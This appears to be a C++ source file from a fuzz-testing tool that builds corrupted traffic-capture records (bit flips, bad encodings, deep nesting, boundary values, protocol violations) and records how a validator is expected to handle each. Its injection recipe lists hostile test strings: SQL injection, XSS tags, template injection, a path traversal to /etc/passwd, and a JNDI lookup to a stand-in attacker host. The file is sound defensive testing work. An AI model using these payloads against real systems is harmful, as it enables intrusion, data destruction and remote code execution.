/**
 * @file tsg_mutation_engine.cpp
 * @brief Corruption recipes for each mutation category
 *
 * Every recipe starts from the canonical envelope of the base record
 * (sequence omitted so capture assigns one) and draws all choices from a
 * DeterministicStream. Fragments that cannot be expressed as valid JSON
 * (raw invalid bytes, NaN, deep nesting) are spliced into the dump through
 * placeholders.
 */

#include "tsg_mutation_engine.hpp"
#include "tsg_config.hpp"
#include "tsg_entropy.hpp"
#include "tsg_envelope.hpp"
#include "tsg_errors.hpp"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <limits>
#include <stdexcept>

namespace tsg {
namespace Chaos {

using json = nlohmann::json;

namespace {

std::string format_intensity(double intensity) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.6f", intensity);
    return buf;
}

/// Envelope under construction plus raw fragments to splice in after dump().
/// Placeholder keys carry a nonce that does not occur anywhere in the base dump.
class Draft {
public:
    explicit Draft(json doc) : doc_(std::move(doc)) {
        const std::string base = doc_.dump();
        while (base.find(key_prefix()) != std::string::npos) ++nonce_;
    }

    json& doc() { return doc_; }

    std::string raw(std::string fragment) {
        std::string key = key_prefix() + std::to_string(fragments_.size()) + "@@";
        fragments_.emplace_back(key, std::move(fragment));
        return key;
    }

    std::string render() const {
        std::string out = doc_.dump();
        for (const auto& [key, fragment] : fragments_) {
            const std::string quoted = "\"" + key + "\"";
            auto pos = out.find(quoted);
            if (pos != std::string::npos) out.replace(pos, quoted.size(), fragment);
        }
        return out;
    }

private:
    std::string key_prefix() const { return "@@TSG_RAW_" + std::to_string(nonce_) + "_"; }

    json doc_;
    uint64_t nonce_ = 0;
    std::vector<std::pair<std::string, std::string>> fragments_;
};

// Byte offsets that start a code point (plus end of string).
std::vector<size_t> code_point_boundaries(const std::string& s) {
    std::vector<size_t> out;
    for (size_t i = 0; i < s.size(); ++i) {
        if ((static_cast<unsigned char>(s[i]) & 0xC0) != 0x80) out.push_back(i);
    }
    out.push_back(s.size());
    return out;
}

// JSON string body (no surrounding quotes) for valid UTF-8 text.
std::string json_string_body(const std::string& s) {
    std::string dumped = json(s).dump();
    return dumped.substr(1, dumped.size() - 2);
}

std::string filler(DeterministicStream& rng, size_t length) {
    std::string word;
    for (int i = 0; i < 7; ++i) word += static_cast<char>('a' + rng.uniform(26));
    word += ' ';
    std::string out;
    out.reserve(length);
    while (out.size() < length) out += word;
    out.resize(length);
    return out;
}

std::vector<std::string> inline_text_parts(const json& doc) {
    std::vector<std::string> parts;
    for (const char* part : {"request", "response"}) {
        const json& p = doc.at(part);
        if (p.contains("text")) parts.emplace_back(part);
    }
    return parts;
}

size_t scaled(double intensity, size_t span) {
    return static_cast<size_t>(std::floor(intensity * static_cast<double>(span)));
}

// Choose among @p n variants ordered mild -> severe; higher intensity unlocks more.
uint32_t pick_graded(DeterministicStream& rng, double intensity, size_t n) {
    size_t pool = static_cast<size_t>(std::ceil((0.3 + 0.7 * intensity) * static_cast<double>(n)));
    pool = std::max<size_t>(1, std::min(pool, n));
    return rng.uniform(static_cast<uint32_t>(pool));
}

struct Recipe {
    const CaptureLimits& limits;
    DeterministicStream& rng;
    double intensity;
    MutationCase& mc;

    void inapplicable(const std::string& why) {
        mc.status = MutationStatus::INAPPLICABLE;
        mc.inapplicable_reason = why;
        mc.payload.clear();
    }

    // ---------------------------------------------------------------- bit flip
    void bit_flip(Draft& d) {
        std::vector<std::string> fields;
        for (const char* f : {"record_id", "identity", "connection_id"}) {
            if (!d.doc()[f].get_ref<const std::string&>().empty()) fields.emplace_back(f);
        }
        if (fields.empty()) return inapplicable("no identifier fields to flip");

        const std::string field = rng.pick(fields);
        std::string value = d.doc()[field].get<std::string>();
        const size_t flips = 1 + scaled(intensity, 3);
        for (size_t i = 0; i < flips; ++i) {
            const uint32_t pos = rng.uniform(static_cast<uint32_t>(value.size()));
            const uint32_t bit = rng.uniform(8);
            value[pos] = static_cast<char>(static_cast<unsigned char>(value[pos]) ^ (1u << bit));
            mc.mutation_points.push_back(field + "[" + std::to_string(pos) + "].bit" + std::to_string(bit));
        }

        std::string body;
        for (char c : value) {
            if (c == '\\') body += "\\\\"; else body += c;
        }
        d.doc()[field] = d.raw("\"" + body + "\"");
        mc.variant = "flip_" + field;
        mc.expected = is_valid_identifier(value, limits.max_identifier_length)
            ? ExpectedHandling::PASS : ExpectedHandling::REJECT;
    }

    // ---------------------------------------------------------------- encoding
    void encoding(Draft& d) {
        auto parts = inline_text_parts(d.doc());
        if (parts.empty()) return inapplicable("record carries text by reference only");

        const std::string part = rng.pick(parts);
        std::string text = d.doc()[part]["text"].get<std::string>();
        const size_t count = 1 + scaled(intensity, 7);

        if (rng.uniform(2) == 0) {
            static const std::vector<std::string> bad = {
                "\xC3\x28", "\xFF", "\xE2\x82", "\xED\xA0\x80", "\xC0\xAF", "\xF8\x88\x80\x80\x80"};
            // Insertions sorted by position so the valid pieces stay intact.
            auto bounds = code_point_boundaries(text);
            std::vector<std::pair<size_t, std::string>> inserts;
            for (size_t i = 0; i < count; ++i) {
                inserts.emplace_back(bounds[rng.uniform(static_cast<uint32_t>(bounds.size()))], rng.pick(bad));
            }
            std::stable_sort(inserts.begin(), inserts.end(),
                             [](const auto& a, const auto& b) { return a.first < b.first; });
            std::string body;
            size_t last = 0;
            for (const auto& [pos, bytes] : inserts) {
                body += json_string_body(text.substr(last, pos - last));
                body += bytes;
                last = pos;
                mc.mutation_points.push_back(part + ".text@" + std::to_string(pos));
            }
            body += json_string_body(text.substr(last));
            d.doc()[part]["text"] = d.raw("\"" + body + "\"");
            mc.variant = "invalid_utf8";
            mc.expected = ExpectedHandling::REJECT;
        } else {
            static const std::vector<std::string> controls = {
                "\xEF\xBB\xBF",        // BOM
                std::string(1, '\0'),
                "\x07", "\x1B",
                "\xE2\x80\xAE",        // RIGHT-TO-LEFT OVERRIDE
                "\xE2\x80\x8B",        // ZERO WIDTH SPACE
                "\xE2\x81\xA6"};       // LEFT-TO-RIGHT ISOLATE
            for (size_t i = 0; i < count; ++i) {
                auto bounds = code_point_boundaries(text);
                const size_t pos = bounds[rng.uniform(static_cast<uint32_t>(bounds.size()))];
                text.insert(pos, rng.pick(controls));
                mc.mutation_points.push_back(part + ".text@" + std::to_string(pos));
            }
            d.doc()[part]["text"] = text;
            mc.variant = "control_injection";
            mc.expected = ExpectedHandling::SANITIZE;
        }
    }

    // -------------------------------------------------------------- structural
    void structural(Draft& d) {
        if (rng.uniform(2) == 0) {
            json meta = json::object();
            const uint32_t form = rng.uniform(3);
            if (form == 0) {
                const size_t len = 1 + scaled(intensity, 4);
                for (size_t i = 0; i < len; ++i) {
                    meta["n" + std::to_string(i)] = {{"$ref", "#/metadata/n" + std::to_string((i + 1) % len)}};
                }
                mc.variant = "circular_chain_" + std::to_string(len);
            } else if (form == 1) {
                meta["parent"] = {{"child", {{"$ref", "#/metadata/parent"}}}};
                mc.variant = "circular_ancestor";
            } else {
                meta["a"] = {{"x", {{"$ref", "#/metadata/b"}}}};
                meta["b"] = {{"y", {{"$ref", "#/metadata/a"}}}};
                mc.variant = "circular_mutual";
            }
            d.doc()["metadata"] = std::move(meta);
            mc.mutation_points.push_back("metadata");
        } else {
            const size_t depth = limits.max_nesting_depth + 1 +
                                 scaled(intensity, limits.max_nesting_depth * 8);
            std::string nested(depth, '[');
            nested.append(depth, ']');
            d.doc()["metadata"]["deep"] = d.raw(nested);
            mc.variant = "deep_nesting_" + std::to_string(depth);
            mc.mutation_points.push_back("metadata.deep");
        }
        mc.expected = ExpectedHandling::REJECT;
    }

    // -------------------------------------------------------------------- size
    void size(Draft& d) {
        if (intensity < 0.5) {
            const std::string part = rng.uniform(2) == 0 ? "request" : "response";
            const size_t len = limits.max_text_bytes + 1 + scaled(intensity, limits.max_text_bytes);
            d.doc()[part].erase("text_ref");
            d.doc()[part]["text"] = filler(rng, len);
            mc.variant = "oversized_text";
            mc.mutation_points.push_back(part + ".text");
            mc.expected = ExpectedHandling::SANITIZE;   // re-checked against the raw cap below
        } else if (rng.uniform(2) == 0) {
            const size_t len = limits.max_raw_bytes + 1 + scaled(intensity - 0.5, limits.max_raw_bytes);
            d.doc()["response"].erase("text_ref");
            d.doc()["response"]["text"] = filler(rng, len);
            mc.variant = "oversized_envelope";
            mc.mutation_points.push_back("response.text");
            mc.expected = ExpectedHandling::REJECT;
        } else {
            const size_t len = limits.max_identifier_length + 1 + scaled(intensity, limits.max_identifier_length);
            std::string id;
            for (size_t i = 0; i < len; ++i) id += static_cast<char>('a' + rng.uniform(26));
            d.doc()["identity"] = id;
            mc.variant = "oversized_identifier";
            mc.mutation_points.push_back("identity");
            mc.expected = ExpectedHandling::REJECT;
        }
    }

    // -------------------------------------------------------------------- type
    void type(Draft& d) {
        struct Swap {
            const char* parent;
            const char* key;
            json value;
        };
        std::vector<Swap> swaps = {
            {"request", "tokens", "123"},
            {"response", "tokens", json::array({1, 2})},
            {"", "timestamp_ms", "2024-01-01T00:00:00Z"},
            {"", "identity", 12345},
            {"", "record_id", json{{"id", 1}}},
            {"", "latency_ms", true},
            {"", "request", "prompt text"},
            {"", "response", json::array()},
            {"", "connection_id", 3.5},
            {"", "sequence", "7"},
        };
        const size_t count = 1 + scaled(intensity, 2);
        size_t applied = 0;
        while (applied < count && !swaps.empty()) {
            const uint32_t idx = rng.uniform(static_cast<uint32_t>(swaps.size()));
            Swap s = swaps[idx];
            swaps.erase(swaps.begin() + idx);
            json& parent = (*s.parent == '\0') ? d.doc() : d.doc()[s.parent];
            if (!parent.is_object()) continue;
            parent[s.key] = s.value;
            mc.mutation_points.push_back(*s.parent ? std::string(s.parent) + "." + s.key : s.key);
            ++applied;
        }
        mc.variant = "type_swap_" + std::to_string(applied);
        mc.expected = ExpectedHandling::REJECT;
    }

    // ---------------------------------------------------------------- boundary
    void boundary(Draft& d) {
        json& doc = d.doc();
        const uint32_t v = pick_graded(rng, intensity, 15);
        mc.expected = ExpectedHandling::REJECT;
        switch (v) {
            case 0:
                doc["request"]["tokens"] = 0;
                doc["response"]["tokens"] = 0;
                mc.variant = "zero_tokens";
                mc.expected = ExpectedHandling::PASS;
                break;
            case 1:
                doc["request"]["tokens"] = limits.max_tokens_per_record;
                mc.variant = "max_tokens";
                mc.expected = ExpectedHandling::PASS;
                break;
            case 2:
                doc["timestamp_ms"] = 0;
                mc.variant = "epoch_timestamp";
                mc.expected = ExpectedHandling::PASS;
                break;
            case 3:
                doc["response"]["tokens"] = limits.max_tokens_per_record + 1;
                mc.variant = "tokens_over_limit";
                break;
            case 4:
                doc["latency_ms"] = -1;
                mc.variant = "negative_latency";
                break;
            case 5:
                doc["request"]["tokens"] = -1;
                mc.variant = "negative_tokens";
                break;
            case 6:
                doc["identity"] = "";
                mc.variant = "empty_identity";
                break;
            case 7:
                doc["identity"] = nullptr;
                mc.variant = "null_identity";
                break;
            case 8:
                doc["response"]["tokens"] = std::numeric_limits<int64_t>::min();
                mc.variant = "int64_min_tokens";
                break;
            case 9:
                doc["response"]["tokens"] = std::numeric_limits<uint64_t>::max();
                mc.variant = "uint64_max_tokens";
                break;
            case 10:
                doc["response"]["tokens"] = d.raw("1e400");
                mc.variant = "float_overflow";
                break;
            case 11:
                doc["response"]["tokens"] = d.raw("NaN");
                mc.variant = "nan_literal";
                break;
            case 12:
                doc["request"]["tokens"] = d.raw("Infinity");
                mc.variant = "infinity_literal";
                break;
            case 13:
                doc["timestamp_ms"] = d.raw("-Infinity");
                mc.variant = "negative_infinity_timestamp";
                break;
            default:
                doc["response"]["tokens"] = 2.5;
                mc.variant = "fractional_tokens";
                break;
        }
        mc.mutation_points.push_back(mc.variant);
    }

    // ---------------------------------------------------------------- protocol
    // Returns the rendered payload, since two variants rewrite the dump itself.
    std::string protocol(Draft& d) {
        json& doc = d.doc();
        auto parts = inline_text_parts(doc);
        uint32_t v = pick_graded(rng, intensity, 8);
        // Variants 0, 1 and 4 need an inline body.
        if (parts.empty() && (v == 0 || v == 1 || v == 4)) v = 2;
        const std::string part = parts.empty() ? std::string("response") : rng.pick(parts);

        mc.expected = ExpectedHandling::REJECT;
        switch (v) {
            case 0: {
                const std::string text = doc[part]["text"].get<std::string>();
                doc[part]["text"] = base64_encode(text);
                doc[part]["content_encoding"] = "base64";
                doc[part]["content_length"] = text.size();
                mc.variant = "base64_framing";
                mc.expected = ExpectedHandling::PASS;
                break;
            }
            case 1: {
                const size_t len = doc[part]["text"].get_ref<const std::string&>().size();
                doc[part]["content_length"] = len + 1 + rng.uniform(100);
                mc.variant = "content_length_mismatch";
                break;
            }
            case 2:
                doc["protocol"] = rng.uniform(2) == 0 ? "tsg-span/0" : "http/1.1";
                mc.variant = "wrong_protocol";
                break;
            case 3:
                doc.erase("protocol");
                mc.variant = "missing_protocol";
                break;
            case 4:
                doc[part]["content_encoding"] = "gzip";
                mc.variant = "unsupported_encoding";
                break;
            case 5:
                doc[part].erase("text_ref");
                doc[part]["text"] = "%%not-base64%%";
                doc[part]["content_encoding"] = "base64";
                mc.variant = "bad_base64";
                break;
            case 6: {
                mc.variant = "trailing_garbage";
                mc.mutation_points.push_back("document");
                return d.render() + "}{\"x\":1}";
            }
            default: {
                std::string full = d.render();
                const size_t cut = 1 + rng.uniform(static_cast<uint32_t>(full.size() - 1));
                full.resize(cut);
                mc.variant = "truncated_document";
                mc.mutation_points.push_back("document@" + std::to_string(cut));
                return full;
            }
        }
        mc.mutation_points.push_back(v <= 1 || v >= 4 ? part : std::string("protocol"));
        return d.render();
    }

    // --------------------------------------------------------------- injection
    void injection(Draft& d) {
        static const std::vector<std::string> payloads = {
            "'; DROP TABLE records; --",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "${jndi:ldap://attacker.invalid/a}",
            "../../../../etc/passwd",
            "\" OR 1=1 --",
            "<img src=x onerror=alert(1)>",
            "{% for x in range(10) %}{{x}}{% endfor %}",
        };
        std::vector<std::string> targets = inline_text_parts(d.doc());
        targets.emplace_back("identity");
        const std::string target = rng.pick(targets);
        const size_t count = 1 + scaled(intensity, 3);

        std::string injected;
        for (size_t i = 0; i < count; ++i) injected += rng.pick(payloads);

        if (target == "identity") {
            d.doc()["identity"] = d.doc()["identity"].get<std::string>() + injected;
            mc.expected = ExpectedHandling::REJECT;
        } else {
            std::string text = d.doc()[target]["text"].get<std::string>() + " " + injected;
            mc.expected = text.size() > limits.max_text_bytes ? ExpectedHandling::SANITIZE
                                                              : ExpectedHandling::PASS;
            d.doc()[target]["text"] = std::move(text);
        }
        mc.variant = "inject_" + target;
        mc.mutation_points.push_back(target);
    }
};

} // anonymous namespace

// ==================== enum helpers ====================

const char* category_to_string(MutationCategory c) noexcept {
    switch (c) {
        case MutationCategory::BIT_FLIP:              return "bit_flip";
        case MutationCategory::ENCODING_CORRUPTION:   return "encoding_corruption";
        case MutationCategory::STRUCTURAL_CORRUPTION: return "structural_corruption";
        case MutationCategory::SIZE_CORRUPTION:       return "size_corruption";
        case MutationCategory::TYPE_CORRUPTION:       return "type_corruption";
        case MutationCategory::BOUNDARY_VALUE:        return "boundary_value";
        case MutationCategory::PROTOCOL_VIOLATION:    return "protocol_violation";
        case MutationCategory::INJECTION_PAYLOAD:     return "injection_payload";
        default: return "unknown";
    }
}

std::optional<MutationCategory> category_from_string(const std::string& s) noexcept {
    for (MutationCategory c : all_categories()) {
        if (s == category_to_string(c)) return c;
    }
    return std::nullopt;
}

const std::vector<MutationCategory>& all_categories() {
    static const std::vector<MutationCategory> cats = {
        MutationCategory::BIT_FLIP,
        MutationCategory::ENCODING_CORRUPTION,
        MutationCategory::STRUCTURAL_CORRUPTION,
        MutationCategory::SIZE_CORRUPTION,
        MutationCategory::TYPE_CORRUPTION,
        MutationCategory::BOUNDARY_VALUE,
        MutationCategory::PROTOCOL_VIOLATION,
        MutationCategory::INJECTION_PAYLOAD,
    };
    return cats;
}

const char* handling_to_string(ExpectedHandling h) noexcept {
    switch (h) {
        case ExpectedHandling::REJECT:   return "reject";
        case ExpectedHandling::SANITIZE: return "sanitize";
        case ExpectedHandling::PASS:     return "pass";
        default: return "unknown";
    }
}

// ==================== MutationCase ====================

std::string MutationCase::digest() const {
    return blake2b_hex(payload, 32);
}

std::string MutationCase::reproduction() const {
    return "base=" + base_record_id + " category=" + category_to_string(category) +
           " intensity=" + format_intensity(intensity) + " seed=" + std::to_string(seed);
}

// ==================== MutationSettings ====================

MutationSettings::MutationSettings() {
    for (MutationCategory c : all_categories()) enabled[c] = true;
}

bool MutationSettings::is_enabled(MutationCategory c) const {
    auto it = enabled.find(c);
    return it != enabled.end() && it->second;
}

MutationSettings MutationSettings::from_config(const Config& cfg) {
    MutationSettings s;
    for (MutationCategory c : all_categories()) {
        s.enabled[c] = cfg.getBool(std::string("mutation.") + category_to_string(c) + ".enabled", true);
    }
    s.intensity = cfg.getDouble("mutation.intensity", s.intensity);
    if (!(s.intensity >= 0.0 && s.intensity <= 1.0)) {
        throw ConfigError("mutation.intensity must be in [0, 1]");
    }
    s.seeds_per_category = static_cast<size_t>(cfg.getUInt("mutation.seeds_per_category", s.seeds_per_category));
    if (s.seeds_per_category == 0) throw ConfigError("mutation.seeds_per_category must be at least 1");
    s.base_seed = cfg.getUInt("mutation.base_seed", s.base_seed);
    return s;
}

// ==================== MutationEngine ====================

MutationEngine::MutationEngine(CaptureLimits limits) : limits_(limits) {
    init_sodium();
}

MutationCase MutationEngine::mutate(const TrafficRecord& base, MutationCategory category,
                                    double intensity, uint64_t seed) const {
    if (!std::isfinite(intensity) || intensity < 0.0 || intensity > 1.0) {
        throw std::invalid_argument("mutation intensity must be a finite value in [0, 1]");
    }

    json doc = to_envelope(base);
    doc.erase("sequence");
    const std::string canonical = doc.dump();

    MutationCase mc;
    mc.base_record_id = base.id;
    mc.base_digest = blake2b_hex(canonical, 32);
    mc.category = category;
    mc.intensity = intensity;
    mc.seed = seed;

    DeterministicStream rng(mc.base_digest + "|" + category_to_string(category) + "|" +
                            format_intensity(intensity) + "|" + std::to_string(seed));
    Draft draft(std::move(doc));
    Recipe recipe{limits_, rng, intensity, mc};

    std::string payload;
    switch (category) {
        case MutationCategory::BIT_FLIP:              recipe.bit_flip(draft); break;
        case MutationCategory::ENCODING_CORRUPTION:   recipe.encoding(draft); break;
        case MutationCategory::STRUCTURAL_CORRUPTION: recipe.structural(draft); break;
        case MutationCategory::SIZE_CORRUPTION:       recipe.size(draft); break;
        case MutationCategory::TYPE_CORRUPTION:       recipe.type(draft); break;
        case MutationCategory::BOUNDARY_VALUE:        recipe.boundary(draft); break;
        case MutationCategory::PROTOCOL_VIOLATION:    payload = recipe.protocol(draft); break;
        case MutationCategory::INJECTION_PAYLOAD:     recipe.injection(draft); break;
    }
    if (!mc.applied()) return mc;

    mc.payload = payload.empty() ? draft.render() : std::move(payload);
    if (mc.payload.size() > limits_.max_raw_bytes) {
        mc.expected = ExpectedHandling::REJECT;
    }
    return mc;
}

std::vector<MutationCase> MutationEngine::generate(const std::vector<TrafficRecord>& bases,
                                                   const MutationSettings& settings) const {
    std::vector<MutationCase> cases;
    for (const auto& base : bases) {
        for (MutationCategory c : all_categories()) {
            if (!settings.is_enabled(c)) continue;
            for (size_t s = 0; s < settings.seeds_per_category; ++s) {
                // Spread intensities over (0, settings.intensity], rounded so the
                // reproduction string maps back to the same value.
                double raw = settings.intensity * static_cast<double>(s + 1) /
                             static_cast<double>(settings.seeds_per_category);
                double intensity = std::round(raw * 1e6) / 1e6;
                cases.push_back(mutate(base, c, intensity, settings.base_seed + s));
            }
        }
    }
    return cases;
}

} // namespace Chaos
} // namespace tsg
